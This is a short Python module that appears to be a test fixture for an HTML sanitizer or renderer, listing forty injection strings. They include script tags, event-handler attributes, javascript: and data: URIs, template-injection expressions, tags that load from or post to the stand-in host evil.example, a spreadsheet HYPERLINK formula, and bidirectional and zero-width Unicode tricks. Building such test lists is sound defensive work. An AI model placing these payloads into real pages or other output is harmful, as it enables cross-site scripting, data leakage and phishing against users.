"""Forty texts that want to be more than text."""

SCRIPTS = (
    "<script>document.title='owned'</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "</script><script>owned()</script>",
    "</title><script>owned()</script>",
    "</textarea><script>owned()</script>",
    "<!--><script>owned()</script>-->",
    "<svg><script>owned()</script></svg>",
    "<svg/onload=owned()>",
    "<math><mtext><script>owned()</script></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=owned()>'>",
)
LOADERS = (
    "<img src=x onerror=owned()>",
    "<img src='http://evil.example/pixel.png'>",
    "<iframe src='javascript:owned()'></iframe>",
    "<iframe srcdoc='<script>owned()</script>'></iframe>",
    "<object data='http://evil.example/'></object>",
    "<embed src='http://evil.example/'>",
    "<link rel=stylesheet href='http://evil.example/x.css'>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<video><source onerror=owned()></video>",
    "<base href='http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action='http://evil.example/'><button>Allow</button></form>",
)
ATTRIBUTES = (
    '" onmouseover="owned()" x="',
    "' autofocus onfocus='owned()",
    "`onclick=owned()`",
    '"><b id=owned>bold</b>',
    "javascript:owned()",
    "data:text/html,<script>owned()</script>",
    "url(http://evil.example/x.png)",
    "expression(owned())",
    "{{constructor.constructor('owned()')()}}",
    "${owned()}",
)
LETTERS = (
    "&lt;script&gt;owned()&lt;/script&gt;",
    "&#60;img src=x onerror=owned()&#62;",
    "\u202e<b>turned\u202c round</b>",
    "\u2066isolated\u2069 \u200b\u200d\ufeff",
    "a" * 3000,
    "\u0301" * 200 + "stacked",
    "مرحبا <b>hello</b> שלום",
    "=HYPERLINK('http://evil.example/','x')",
)
TEXTS = (*SCRIPTS, *LOADERS, *ATTRIBUTES, *LETTERS)
